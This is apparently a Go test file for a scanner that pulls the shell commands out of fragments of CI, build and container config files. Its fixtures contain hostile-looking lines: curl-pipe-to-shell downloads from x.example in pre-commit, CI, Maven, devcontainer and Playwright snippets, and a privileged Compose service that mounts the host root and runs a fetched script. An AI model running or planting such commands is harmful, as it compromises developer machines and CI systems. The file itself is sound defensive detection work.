package planted

import (
	"slices"
	"testing"
)

func TestPieceCode(t *testing.T) {
	const home = "/home/u"
	tests := []struct {
		name, path, text string
		want             []string // the shell lines found, in order
	}{
		{
			name: "a pre-commit hook cut from its repos list",
			path: "/p/.pre-commit-config.yaml",
			text: "      - id: ruff-format\n  - repo: local\n    hooks:\n      - id: sync\n        entry: bash -c 'curl -fsSL https://x.example/s.sh | bash'\n        language: system\n",
			want: []string{"bash -c 'curl -fsSL https://x.example/s.sh | bash'"},
		},
		{
			name: "a CI step cut from its job",
			path: "/p/.circleci/config.yml",
			text: "      - checkout\n      - run: bash <(curl -s https://x.example/c.sh)\n",
			want: []string{"bash <(curl -s https://x.example/c.sh)"},
		},
		{
			name: "a block scalar",
			path: "/p/.github/workflows/ci.yml",
			text: "      - name: setup\n        run: |\n          make deps\n          make test\n      - name: after\n",
			want: []string{"make deps\nmake test\n"},
		},
		{
			name: "a list of commands",
			path: "/p/.gitlab-ci.yml",
			text: "  script:\n    - npm ci\n    - \"npm test\"\n",
			want: []string{"npm ci", "npm test"},
		},
		{
			name: "a JSON member with its trailing comma",
			path: "/p/.devcontainer/devcontainer.json",
			text: "  \"postCreateCommand\": \"pip install -r requirements.txt && curl -s https://x.example | sh\",\n",
			want: []string{"pip install -r requirements.txt && curl -s https://x.example | sh"},
		},
		{
			name: "an exec form",
			path: "/p/.gitlab-ci.yml",
			text: "  command: [\"sh\", \"-c\", \"echo hi; id\"]\n",
			want: []string{"sh -c 'echo hi; id'"},
		},
		{
			name: "keys that are no commands",
			path: "/p/.github/workflows/ci.yml",
			text: "    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    env:\n      CI: true\n",
		},
		{
			name: "a declarative file's piece is read as the file, never by its command keys",
			path: "/p/docker-compose.yml",
			text: "    image: nginx\n    command: rm -rf /usr/share/nginx/html/cache\n",
		},
		{
			name: "so a service's command runs in its container",
			path: "/p/docker-compose.yml",
			text: "  web:\n    image: nginx\n    command: rm -rf /usr/share/nginx/html/cache\n",
			want: []string{"docker run nginx rm -rf /usr/share/nginx/html/cache"},
		},
		{
			name: "a POM's plugin, with the end tags of the elements it was cut from",
			path: "/p/pom.xml",
			text: "      <plugin>\n        <artifactId>exec-maven-plugin</artifactId>\n        <configuration>\n          <executable>sh</executable>\n          <arguments><argument>-c</argument><argument>curl -fsSL https://x.example/b.sh | sh</argument></arguments>\n        </configuration>\n      </plugin>\n    </plugins>\n  </build>",
			want: []string{"sh -c 'curl -fsSL https://x.example/b.sh | sh'"},
		},
		{
			name: "a POM's dependency, with the end tag of its list",
			path: "/p/pom.xml",
			text: "    <dependency>\n      <groupId>com.fasterxml.jackson.core</groupId>\n      <artifactId>jackson-databind</artifactId>\n    </dependency>\n  </dependencies>",
		},
		{
			name: "a Compose service cut from its services",
			path: "/p/docker-compose.yml",
			text: "  agent:\n    image: alpine:3.19\n    privileged: true\n    volumes:\n      - /:/host\n    command: chroot /host sh -c \"curl -fsSL https://x.example/a.sh | sh\"\n",
			want: []string{`docker run --privileged -v /:/host alpine:3.19 chroot /host sh -c "curl -fsSL https://x.example/a.sh | sh"`},
		},
		{
			name: "pyproject.toml's build requirements cut from their table",
			path: "/p/pyproject.toml",
			text: "requires = [\"setuptools>=68\", \"wheel\", \"helper @ https://files.x.example/helper-0.3.tar.gz\"]\n",
			want: []string{"pip install 'setuptools>=68' wheel 'helper @ https://files.x.example/helper-0.3.tar.gz'"},
		},
		{
			name: "a command key in a piece of a JavaScript configuration",
			path: "/p/playwright.config.ts",
			text: "    command: 'curl -s https://x.example/w.sh | sh; npm run start',\n",
			want: []string{"curl -s https://x.example/w.sh | sh; npm run start"},
		},
		{
			name: "what the kind's own reader finds comes first",
			path: "/p/Makefile",
			text: "\tgo test ./...\n",
			want: []string{"go test ./..."},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			kind, ok := Lookup(tt.path, home)
			if !ok {
				t.Fatalf("%s is no kind", tt.path)
			}
			var got []string
			for _, c := range kind.PieceCode(tt.text) {
				switch {
				case c.Opaque != "":
					got = append(got, "opaque: "+c.Opaque)
				case c.Lang == Shell:
					got = append(got, c.Text)
				} // code of a language moat reads (JavaScript) is the reader's, not listed
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("got %q\nwant %q", got, tt.want)
			}
		})
	}
}
